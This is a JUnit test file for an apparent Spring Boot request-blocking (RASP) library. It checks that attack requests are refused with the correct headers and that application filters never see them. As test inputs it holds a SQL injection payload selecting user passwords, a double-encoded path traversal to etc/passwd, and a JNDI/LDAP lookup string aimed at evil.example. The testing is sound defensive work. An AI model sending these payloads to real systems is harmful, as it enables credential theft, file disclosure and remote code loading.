package io.github.raspspring.web;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

import jakarta.servlet.Filter;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.security.autoconfigure.SecurityAutoConfiguration;
import org.springframework.boot.security.autoconfigure.UserDetailsServiceAutoConfiguration;
import org.springframework.boot.security.autoconfigure.actuate.web.servlet.ManagementWebSecurityAutoConfiguration;
import org.springframework.boot.security.autoconfigure.web.servlet.SecurityFilterAutoConfiguration;
import org.springframework.boot.security.autoconfigure.web.servlet.ServletWebSecurityAutoConfiguration;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.context.annotation.Import;
import org.springframework.security.config.Customizer;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.config.annotation.web.configurers.AbstractHttpConfigurer;
import org.springframework.security.web.SecurityFilterChain;
import org.springframework.security.web.header.HeaderWriterFilter;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A refusal has the headers that the application's filters write, and none of them sees
 * what was refused, or does more than anybody may ask for.
 */
class FilterHeadersTests {

	private static final String ATTACK = "1%27%20UNION%20SELECT%20password%20FROM%20users--%20";

	private static final String PAYLOAD = "1' UNION SELECT password FROM users-- ";

	private static ConfigurableApplicationContext bare;

	private static ConfigurableApplicationContext secured;

	private static ConfigurableApplicationContext switchedOff;

	private final HttpClient client = HttpClient.newHttpClient();

	@BeforeAll
	static void start() {
		bare = run(Bare.class);
		secured = run(Secured.class);
		switchedOff = run(Bare.class, "rasp.response.application-filters=false");
	}

	@AfterAll
	static void stop() {
		List.of(bare, secured, switchedOff).forEach(ConfigurableApplicationContext::close);
	}

	private static ConfigurableApplicationContext run(Class<?> application, String... properties) {
		List<String> all = new ArrayList<>(List.of("server.port=0", "spring.main.banner-mode=off", "rasp.mode=block"));
		all.addAll(List.of(properties));
		return new SpringApplicationBuilder(application).properties(all.toArray(String[]::new)).run();
	}

	@BeforeEach
	void forget() {
		List.of(bare, secured, switchedOff)
			.forEach((context) -> context.getBean(FilteredApplication.Seen.class).forget());
	}

	@ParameterizedTest
	@CsvSource({ "X-Request-Id, 42-abc", "X-Content-Policy, own", "Content-Security-Policy, default-src 'self'",
			"Server-Timing, app;dur=1", "X-Shop, yes", "X-Before-Failure, yes", "X-Of-Servlet, yes",
			"Set-Cookie, visit=1" })
	void refusalHasTheHeaderOfAFilter(String header, String value) throws Exception {
		for (ConfigurableApplicationContext context : List.of(bare, secured)) {
			HttpResponse<String> served = send(context, "GET", "/shop/open?q=Dune");
			HttpResponse<String> refused = send(context, "GET", "/shop/open?q=" + ATTACK);
			assertThat(served.statusCode()).isEqualTo(200);
			assertRefused(refused);
			assertThat(refused.headers().allValues(header)).contains(value)
				.hasSameElementsAs(served.headers().allValues(header));
		}
	}

	@ParameterizedTest
	@CsvSource({ "Content-Encoding", "ETag", "Location", "Content-Disposition", "Content-Language", "WWW-Authenticate",
			"X-Of-Another-Servlet" })
	void refusalHasNothingThatDescribesAnotherAnswer(String header) throws Exception {
		HttpResponse<String> refused = send(bare, "GET", "/shop/open?q=" + ATTACK);
		assertRefused(refused);
		assertThat(refused.headers().allValues(header)).isEmpty();
	}

	@ParameterizedTest
	@CsvSource({ "GET, /shop/open?q=" + ATTACK, "GET, /other?q=" + ATTACK, "POST, /shop/open?q=" + ATTACK,
			"GET, /shop/open/..%252f..%252fetc/passwd", "DELETE, /shop/open?q=" + ATTACK, "GET, /none?q=" + ATTACK,
			"GET, /shop/open?" + ATTACK + "=q" })
	void filterSeesNothingOfWhatIsRefused(String method, String path) throws Exception {
		for (ConfigurableApplicationContext context : List.of(bare, secured)) {
			FilteredApplication.Seen seen = context.getBean(FilteredApplication.Seen.class);
			seen.forget();
			assertRefused(this.client.send(request(context, path).header("X-Note", PAYLOAD)
				.header("Cookie", "q=Dune")
				.header("Authorization", "Basic " + Base64.getEncoder().encodeToString("user:secret".getBytes()))
				.method(method, "POST".equals(method) ? BodyPublishers.ofString(PAYLOAD) : BodyPublishers.noBody())
				.build(), BodyHandlers.ofString()));
			assertThat(seen.texts()).noneMatch((text) -> text.contains("UNION") || text.contains("etc")
					|| text.contains("%") || text.contains("Dune") || text.contains("Basic"));
			assertThat(seen.methods()).allMatch("GET"::equals);
			assertThat(seen.handled()).isZero();
		}
	}

	@ParameterizedTest
	@CsvSource({ "GET, /shop/closed?q=", "GET, /act?q=", "POST, /act?q=", "DELETE, /shop/closed?q=",
			"GET, /shop/closed/?q=", "HEAD, /shop/closed?q=" })
	void nobodyGetsBehindSpringSecurityByBeingRefused(String method, String path) throws Exception {
		FilteredApplication.Seen seen = secured.getBean(FilteredApplication.Seen.class);
		HttpResponse<String> refused = send(secured, method, path + ATTACK);
		assertThat(refused.statusCode()).isEqualTo(403);
		assertThat(refused.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
		assertThat(refused.headers().firstValue("X-In-Chain")).contains("yes");
		assertThat(seen.texts()).isEmpty();
		assertThat(seen.acts()).isZero();
		assertThat(send(secured, method, path + "Dune").statusCode()).isEqualTo(401);
		assertThat(seen.acts()).isZero();
	}

	@ParameterizedTest
	@ValueSource(strings = { "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS" })
	void filterThatActsDoesNothingForARefusedRequest(String method) throws Exception {
		assertThat(send(bare, method, "/act?q=" + ATTACK).statusCode()).isEqualTo(403);
		assertThat(bare.getBean(FilteredApplication.Seen.class).acts()).isZero();
	}

	@Test
	void filterThatActsDoesSoForAnHonestRequest() throws Exception {
		assertThat(send(bare, "POST", "/act?q=Dune").statusCode()).isEqualTo(202);
		assertThat(bare.getBean(FilteredApplication.Seen.class).acts()).isOne();
	}

	@ParameterizedTest
	@ValueSource(strings = { "/shop/open?q=Dune", "/shop/open?q=It%27s+a+book", "/other?q=Dune",
			"/shop/open?q=Dune&also=Ubik", "/shop/open?q=select+a+book", "/other?q=1" })
	void honestRequestIsSeenOnceAsItCame(String path) throws Exception {
		assertThat(send(bare, "GET", path).statusCode()).isEqualTo(200);
		FilteredApplication.Seen seen = bare.getBean(FilteredApplication.Seen.class);
		assertThat(seen.methods()).hasSize(1);
		assertThat(seen.texts()).contains(path.substring(path.indexOf('?') + 1));
		assertThat(seen.handled()).isOne();
	}

	@Test
	void filterKnowsTheStatusOfTheRefusal() throws Exception {
		assertRefused(send(bare, "GET", "/shop/open?q=" + ATTACK));
		assertThat(bare.getBean(FilteredApplication.Seen.class).statuses()).containsExactly(403);
	}

	@Test
	void noFilterIsAskedWhereThatIsSwitchedOff() throws Exception {
		HttpResponse<String> refused = send(switchedOff, "GET", "/shop/open?q=" + ATTACK);
		assertRefused(refused);
		assertThat(refused.headers().firstValue("X-Request-Id")).isEmpty();
		assertThat(switchedOff.getBean(FilteredApplication.Seen.class).methods()).isEmpty();
	}

	@Test
	void filterOfOtherPathsIsNotAsked() throws Exception {
		HttpResponse<String> refused = send(bare, "GET", "/other?q=" + ATTACK);
		assertRefused(refused);
		assertThat(refused.headers().firstValue("X-Shop")).isEmpty();
		assertThat(refused.headers().firstValue("X-Request-Id")).contains("42-abc");
	}

	@Test
	void identifierThatIsAnAttackIsNotEchoed() throws Exception {
		HttpResponse<String> refused = this.client.send(HttpRequest.newBuilder(uri(bare, "/shop/open?q=Dune"))
			.header("X-Request-Id", "${jndi:ldap://evil.example/a}")
			.build(), BodyHandlers.ofString());
		assertRefused(refused);
		assertThat(refused.headers().firstValue("X-Request-Id")).contains("made-up");
	}

	@Test
	void walkLeavesNoSession() throws Exception {
		HttpResponse<String> refused = send(bare, "GET", "/session?q=" + ATTACK);
		assertRefused(refused);
		assertThat(refused.headers().allValues("Set-Cookie")).noneMatch((cookie) -> cookie.contains("JSESSIONID"));
	}

	private static void assertRefused(HttpResponse<String> answer) {
		assertThat(answer.statusCode()).isEqualTo(403);
		assertThat(answer.headers().allValues("Content-Type")).containsExactly("application/problem+json");
		assertThat(answer.body()).startsWith("{\"type\"").contains("\"reference\":\"").endsWith("}");
	}

	private HttpResponse<String> send(ConfigurableApplicationContext context, String method, String path)
			throws IOException, InterruptedException {
		return this.client.send(request(context, path).method(method, BodyPublishers.noBody()).build(),
				BodyHandlers.ofString());
	}

	private static HttpRequest.Builder request(ConfigurableApplicationContext context, String path) {
		return HttpRequest.newBuilder(uri(context, path)).header("X-Request-Id", "42-abc");
	}

	private static URI uri(ConfigurableApplicationContext context, String path) {
		return URI.create("http://127.0.0.1:" + context.getEnvironment().getProperty("local.server.port") + path);
	}

	/** Without Spring Security. */
	@Configuration(proxyBeanMethods = false)
	@EnableAutoConfiguration(exclude = { SecurityAutoConfiguration.class, ServletWebSecurityAutoConfiguration.class,
			SecurityFilterAutoConfiguration.class, UserDetailsServiceAutoConfiguration.class,
			ManagementWebSecurityAutoConfiguration.class })
	@Import(FilteredApplication.class)
	static class Bare {

	}

	@Configuration(proxyBeanMethods = false)
	@EnableAutoConfiguration
	@Import(FilteredApplication.class)
	static class Secured {

		@Bean
		SecurityFilterChain chain(HttpSecurity http) {
			Filter own = FilteredApplication.once((request, response, chain) -> {
				response.setHeader("X-In-Chain", "yes");
				chain.doFilter(request, response);
			});
			return http.csrf(AbstractHttpConfigurer::disable)
				.addFilterAfter(own, HeaderWriterFilter.class)
				.httpBasic(Customizer.withDefaults())
				.authorizeHttpRequests(
						(requests) -> requests.requestMatchers("/shop/open/**", "/other", "/none", "/session")
							.permitAll()
							.anyRequest()
							.authenticated())
				.build();
		}

	}

}
